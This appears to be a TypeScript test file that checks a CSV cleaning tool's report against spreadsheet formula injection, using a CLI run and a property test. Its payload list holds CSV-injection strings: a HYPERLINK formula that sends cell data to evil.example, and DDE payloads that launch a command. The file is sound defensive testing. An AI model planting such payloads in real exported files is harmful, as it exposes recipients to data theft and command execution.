/**
 * The report is meant to be opened in a spreadsheet. Any cell a spreadsheet would run as a formula
 * (starting with =, +, -, @, tab or CR, or their full-width forms) must be neutralized. The report is
 * read back the way a spreadsheet import does: CSV parsed (BOM dropped, quotes resolved), each cell
 * as text.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { scrubCsv } from '../../src/batch.js';
import { parseCsv, runCli, tempDir, type SummaryJson } from '../support/spawn.js';
import { seedOf } from './helpers.js';

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

let dir: string;
let cleanup: () => Promise<void>;
beforeAll(async () => ({ dir, cleanup } = await tempDir('listscrub-formula-')));
afterAll(async () => cleanup());

function quote(cell: string): string {
  return `"${cell.replace(/"/g, '""')}"`;
}

/** Every report cell, data rows only (the header is ours). */
async function reportCells(path: string): Promise<string[]> {
  return parseCsv(await readFile(path, 'utf8'))
    .slice(1)
    .flat();
}

describe('report cells never start a formula', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20SUM(A1)',
  ];

  test('through the CLI: payloads in the email column, in other columns, and in malformed rows', async () => {
    const input = join(dir, 'formulas.csv');
    const output = join(dir, 'formulas.clean.csv');
    const report = join(dir, 'formulas.report.csv');
    const rows = [
      ...payloads.map((p) => `${quote(p)},${quote(p)},x`), // invalid addresses, payload everywhere
      ...payloads.map((p) => `${quote(`${p}@example.com`)},${quote(p)},x`), // address-like payloads
      ...payloads.map((p) => `${quote(p)},${quote(p)}`), // wrong field count: malformed
      `ann@example.com,${quote(payloads[0]!)},x`, // then the same address twice: a duplicate row
      `ann@example.com,${quote(payloads[3]!)},x`,
    ];
    await writeFile(input, `email,note,other\n${rows.join('\n')}\n`);
    const result = await runCli(['clean', input, '-o', output, '-r', report, '--no-dns', '--json']);
    expect(result.code).toBe(0);
    const summary = JSON.parse(result.stdout) as SummaryJson;
    const cells = await reportCells(report);
    // The payload rows that are not addresses (invalid, malformed) and the duplicate are reported.
    expect(summary.removed).toBeGreaterThanOrEqual(payloads.length * 2 + 1);
    expect(parseCsv(await readFile(report, 'utf8')).length - 1).toBe(summary.removed);
    expect(parseCsv(await readFile(output, 'utf8')).length - 1).toBe(rows.length - summary.removed);
    expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(payloads.length * 3);
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
  });

  test(`property: whatever the cells, no report cell starts a formula (200 runs)`, async () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '"', ',', 'a', '1', ' ', '('), maxLength: 8 }),
      fc.constantFrom(...payloads),
    );
    let run = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell, fc.boolean()), { minLength: 1, maxLength: 20 }), async (rows) => {
        const report = join(dir, `prop-${++run}.report.csv`);
        const text = `email,note\n${rows.map(([a, b, short]) => (short ? quote(a) : `${quote(a)},${quote(b)}`)).join('\n')}\n`;
        const summary = await scrubCsv({ input: '-', stdin: Readable.from([text]), output: join(dir, 'prop.clean.csv'), report, dns: false, lock: false });
        const cells = await reportCells(report);
        expect(cells.length).toBeGreaterThanOrEqual(summary.removed * 7);
        for (const c of cells) expect(c).not.toMatch(FORMULA_START);
      }),
      { numRuns: 200, seed: seedOf(31337) },
    );
  });
});
